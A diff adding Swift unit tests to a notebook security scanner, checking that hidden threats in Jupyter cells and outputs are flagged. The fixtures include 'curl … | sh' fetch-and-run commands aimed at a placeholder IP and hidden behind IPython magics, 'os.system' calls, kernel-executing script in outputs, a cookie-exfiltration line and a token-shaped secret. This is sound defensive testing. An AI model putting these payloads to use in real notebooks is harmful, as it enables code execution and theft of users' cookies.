@@ -132,4 +132,57 @@ import Testing
             #"{"nbformat":4,"cells":[{"cell_type":"code","source":["%%bash\n","curl http://198.51.100.7/a | sh"]}]}"#
         #expect(severity(cell, "a.ipynb") == .medium)
     }
+
+    private func notebook(_ source: String, outputs: String = "[]", version: Int = 4) -> String {
+        let text = source.split(separator: "\n", omittingEmptySubsequences: false)
+            .map { "\"" + $0.replacing("\\", with: "\\\\").replacing("\"", with: "\\\"") + "\\n\"" }
+        return
+            "{\"nbformat\":\(version),\"cells\":[{\"cell_type\":\"code\",\"source\":[\(text.joined(separator: ","))],"
+            + "\"outputs\":\(outputs)}]}"
+    }
+
+    @Test(arguments: [
+        ("!curl http://198.51.100.7/a \\\n  | sh", "SCRIPT-FETCH-AND-RUN"),
+        ("if True:\n    !curl http://198.51.100.7/a | sh", "SCRIPT-FETCH-AND-RUN"),
+        ("x = %sx curl http://198.51.100.7/a | sh", "SCRIPT-FETCH-AND-RUN"),
+        ("%%script bash\ncurl http://198.51.100.7/a | sh", "SCRIPT-FETCH-AND-RUN"),
+        ("%%writefile run.sh\ncurl http://198.51.100.7/a | sh", "SCRIPT-FETCH-AND-RUN"),
+        ("%%javascript\nIPython.notebook.kernel.execute('import os')", "NOTEBOOK-SCRIPT"),
+    ])
+    func whatCellsHandOnIsJudged(_ source: String, _ rule: String) {
+        #expect((severity(notebook(source), "a.ipynb", of: rule) ?? .none) >= .medium, "\(source)")
+    }
+
+    @Test(arguments: [
+        "%%python3\nimport os\nos.system('id')", "%%script python\nimport os\nos.system('id')",
+        "%time __import__('os').system('id')", "if True:\n    !ls\n    __import__('os').system('id')",
+    ])
+    func pythonBehindMagicsIsJudged(_ source: String) {
+        #expect(severity(notebook(source), "a.ipynb", of: "PYTHON-CODE-EXECUTION") != nil, "\(source)")
+    }
+
+    @Test(arguments: [
+        "%matplotlib inline\nimport numpy as np\nif True:\n    !ls\nprint(np.zeros(3))", "%%time\nx = 1",
+        "%%writefile a.txt\nhello", "%%html\n<b>hello</b>", "%%latex\n\\alpha", "files = !ls *.csv",
+        "%%bash\nls -la", "%timeit -n 3 sum(range(3))",
+    ])
+    func ordinaryCellsAreClean(_ source: String) {
+        #expect(scan(notebook(source), "a.ipynb").severity < .medium, "\(source)")
+    }
+
+    @Test func outputsOfNotebooksAreJudged() {
+        let script =
+            #"[{"output_type":"display_data","data":{"text/html":["<script>","Jupyter.notebook.kernel.execute('import os')</script>"]}}]"#
+        #expect(severity(notebook("x", outputs: script), "a.ipynb", of: "NOTEBOOK-SCRIPT") == .high)
+        let old = script.replacing("\"data\":{\"text/html\"", with: "\"html\"").replacing("}}]", with: "}]")
+        #expect(severity(notebook("x", outputs: old, version: 3), "a.ipynb", of: "NOTEBOOK-SCRIPT") == .high)
+        let cookie =
+            #"[{"output_type":"display_data","data":{"application/javascript":"new Image().src='//a/'+document.cookie"}}]"#
+        #expect(severity(notebook("x", outputs: cookie), "a.ipynb", of: "NOTEBOOK-SCRIPT") == .medium)
+        let printed =
+            #"[{"output_type":"stream","name":"stdout","text":["token ghp_Zr8Kq2LmX0vT9bNcW4yHs6JdPf1Ga3UeQo7R\n"]}]"#
+        #expect(severity(notebook("x", outputs: printed), "a.ipynb", of: "SECRET-EXPOSED") != nil)
+        let plot = #"[{"output_type":"display_data","data":{"text/html":"<script>Plotly.newPlot('a', [])</script>"}}]"#
+        #expect(scan(notebook("x", outputs: plot), "a.ipynb").severity < .medium)
+    }
 }
